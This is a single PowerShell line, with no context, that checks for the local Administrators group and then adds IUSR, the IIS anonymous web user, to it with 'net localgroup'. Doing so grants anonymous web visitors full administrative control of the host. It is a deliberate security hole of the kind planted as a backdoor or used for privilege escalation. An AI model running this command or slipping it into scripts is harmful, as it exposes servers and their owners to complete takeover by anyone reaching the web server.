if (Test-CGroup -Name Administrators) { net localgroup Administrators IUSR /add }
